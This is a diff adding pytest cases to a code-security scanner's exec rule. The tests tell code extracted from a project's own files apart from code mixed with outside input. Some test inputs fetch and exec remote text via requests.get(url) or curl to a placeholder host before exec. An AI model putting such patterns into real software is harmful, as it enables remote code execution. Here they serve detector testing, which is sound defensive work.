@@ -4,6 +4,7 @@
 from __future__ import annotations
 
 import ast
+import time
 from pathlib import Path
 
 import pytest
@@ -161,3 +162,103 @@ def test_a_climb_that_stays_in_the_checkout_and_writes_of_other_files_keep_it_lo
     assert [f.severity.value for f in top] == ["medium"]
     unnamed = source + "open(target, 'w').write(x)\n"  # a write whose path names no file: any file
     assert [f.severity.value for f in scan_code(tmp_path, unnamed, "docs/conf.py") if f.rule_id == "B102"] == ["medium"]
+
+
+# Tests that run one function of the project's own module without importing it (unsloth's
+# studio tests): the file parsed, its statements picked and compiled again.
+EXTRACTED = (
+    "import ast\nfrom pathlib import Path\n_ROOT = Path(__file__).resolve().parent.parent\n\n"
+    "def _extract():\n    src = (_ROOT / 'storage' / 'studio_db.py').read_text(encoding='utf-8')\n"
+    "    tree = ast.parse(src)\n"
+    "    funcs = [n for n in tree.body if isinstance(n, ast.FunctionDef) and n.name in {'a', 'b'}]\n"
+    "    module = ast.Module(body=funcs, type_ignores=[])\n    ast.fix_missing_locations(module)\n"
+    "    ns = {}\n    exec(compile(module, '<extracted studio_db.py>', 'exec'), ns)\n    return ns['a']\n"
+)
+
+
+def test_statements_picked_from_a_project_file_are_its_own_code(tmp_path: Path) -> None:
+    [finding] = [f for f in scan_code(tmp_path, EXTRACTED, "test_db.py") if f.rule_id == "B102"]
+    assert finding.severity.value == "low"
+    assert "studio_db.py" in finding.message
+    segment = EXTRACTED.replace(
+        "    module = ast.Module(body=funcs, type_ignores=[])\n    ast.fix_missing_locations(module)\n",
+        "    module = ast.get_source_segment(src, funcs[0])\n",
+    )
+    assert [f.severity.value for f in scan_code(tmp_path, segment, "test_db.py") if f.rule_id == "B102"] == ["low"]
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        # a statement from elsewhere added to the picked ones
+        ("    ast.fix_missing_locations(module)\n", "    module.body.append(ast.parse(input()).body[0])\n"),
+        ("    ast.fix_missing_locations(module)\n", "    tree.body.append(extra)\n"),
+        # the parsed text is not the file's
+        ("    tree = ast.parse(src)\n", "    tree = ast.parse(src + input())\n"),
+        ("    tree = ast.parse(src)\n", "    tree = ast.parse(requests.get(url).text)\n"),
+        # a module of the file's statements and a parameter's
+        ("body=funcs,", "body=[*funcs, extra],"),
+    ],
+)
+def test_a_tree_with_other_text_in_it_keeps_blocking(tmp_path: Path, change: tuple[str, str]) -> None:
+    source = EXTRACTED.replace(*change)
+    assert source != EXTRACTED
+    assert [f.severity.value for f in scan_code(tmp_path, source, "test_db.py") if f.rule_id == "B102"] == ["medium"]
+
+
+def test_names_that_branch_without_end_stay_bounded(tmp_path: Path) -> None:
+    """Each list element is followed on its own: 30 levels of `a = [b, b]` would be 2**30 paths."""
+    lines = [f"n{i} = [n{i + 1}, n{i + 1}]" for i in range(30)]
+    source = "import ast\n" + "\n".join(lines) + "\nn30 = ast.parse(open('pkg/a.py').read())\n"
+    source += "exec(compile(ast.Module(body=n0, type_ignores=[]), 'x', 'exec'))\n"
+    started = time.perf_counter()
+    findings = [f for f in scan_code(tmp_path, source, "conf.py") if f.rule_id == "B102"]
+    assert time.perf_counter() - started < 30  # a guard against exponential time, not a speed goal
+    assert [f.severity.value for f in findings] == ["medium"]
+
+
+GATE = (
+    "import textwrap\nfrom pathlib import Path\n"
+    "_SRC = Path(__file__).resolve().parent.parent / 'core' / 'llama_cpp.py'\n\n"
+    "def _gate_source() -> str:\n    lines = _SRC.read_text(encoding='utf-8').splitlines()\n"
+    "    start = next(i for i, line in enumerate(lines) if line.strip() == 'mid = 1')\n"
+    "    return textwrap.dedent('\\n'.join(lines[start : start + 5]))\n\n"
+    "_GATE = compile(_gate_source(), str(_SRC), 'exec')\n\ndef run():\n    scope = {}\n    exec(_GATE, scope)\n"
+)
+SEGMENT = (
+    "import ast\nfrom pathlib import Path\n_RUN_PY = Path(__file__).parent / 'run.py'\n\ndef test_x():\n"
+    '    """Runs one function of run.py; run.py is not imported."""\n'
+    "    src = _RUN_PY.read_text(encoding='utf-8')\n    tree = ast.parse(src)\n"
+    "    func_src = next(ast.get_source_segment(src, n) for n in ast.walk(tree) if isinstance(n, ast.FunctionDef))\n"
+    "    ns = {}\n    exec(compile(func_src, '<run.py>', 'exec'), ns)\n"
+)
+
+
+@pytest.mark.parametrize("source", [GATE, SEGMENT])
+def test_a_functions_returned_text_and_a_picked_segment_of_a_project_file_are_its_code(
+    tmp_path: Path, source: str
+) -> None:
+    assert [f.severity.value for f in scan_code(tmp_path, source, "test_gate.py") if f.rule_id == "B102"] == ["low"]
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # the function is given something: its text depends on the caller
+        GATE.replace("def _gate_source() -> str:", "def _gate_source(extra='') -> str:").replace(
+            "_gate_source()", "_gate_source(input())"
+        ),
+        # it may return other text too
+        GATE.replace(
+            "    return textwrap.dedent(", "    if start:\n        return input()\n    return textwrap.dedent("
+        ),
+        # defined twice: which one runs is not known
+        GATE + "\ndef _gate_source():\n    return input()\n",
+        # the file's name in a command too, not only in a docstring or a compile label
+        SEGMENT.replace("    ns = {}\n", "    os.system('curl -o run.py https://x')\n    ns = {}\n"),
+    ],
+)
+def test_returned_or_picked_text_with_another_source_keeps_blocking(tmp_path: Path, source: str) -> None:
+    assert [f.severity.value for f in scan_code(tmp_path, source, "test_gate.py") if f.rule_id == "B102"] == [
+        "medium"
+    ]
